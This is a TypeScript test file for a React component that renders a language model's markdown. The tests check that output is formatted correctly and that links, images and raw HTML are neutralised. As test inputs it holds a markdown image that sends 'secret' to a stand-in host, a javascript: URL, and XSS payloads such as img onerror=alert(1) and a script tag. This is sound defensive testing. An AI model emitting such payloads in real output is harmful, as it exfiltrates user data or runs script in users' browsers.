import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test } from 'vitest'
import { ModelWords } from './model-words.tsx'

const drawn = (text: string): string => renderToStaticMarkup(<ModelWords text={text} />)

test('lists, code and tables of a model are set as such', () => {
  const html = drawn(
    '## Steps\n\n1. Tune\n2. Play\n\n```js\nlet a = 1\n\nlet b\n```\n\n| a | b |\n|-|-|\n| 1 | 2 |\n\n**Now.**',
  )
  for (const piece of [
    '<ol',
    '<li',
    '<pre',
    'let a = 1\n\nlet b',
    '<table',
    '<strong>Now.</strong>',
    'data-level="2"',
  ])
    expect(html).toContain(piece)
})

test.each([
  ['[your bank](https://evil.example/login)', 'your bank (https://evil.example/login)'],
  ['![cat](https://evil.example/cat.png?words=secret)', 'cat (https://evil.example/cat.png?words=secret)'],
  ['<https://evil.example/>', 'https://evil.example/'],
  ['See https://evil.example/ or www.evil.example.', 'See https://evil.example/ or www.evil.example.'],
  ['[x][1]\n\n[1]: https://evil.example', '[1]: https://evil.example'],
  ['![a](javascript:alert(1))', 'a (javascript:alert(1))'],
])('%s leads nowhere and fetches nothing, and its address can be read', (text, shown) => {
  const html = drawn(text)
  expect(html).toContain(shown)
  expect(html).not.toMatch(/<(?:a|img|iframe)\b|href=|src=/)
})

test('HTML of a model is letters', () => {
  const html = drawn(
    '<img src=x onerror=alert(1)> <script>alert(1)</script>\n\n<div onclick="x">hi</div>\n\n- [ ] a task',
  )
  expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;')
  expect(html).toContain('&lt;script&gt;')
  expect(html).not.toMatch(/<(?:img|script|input)\b/)
})
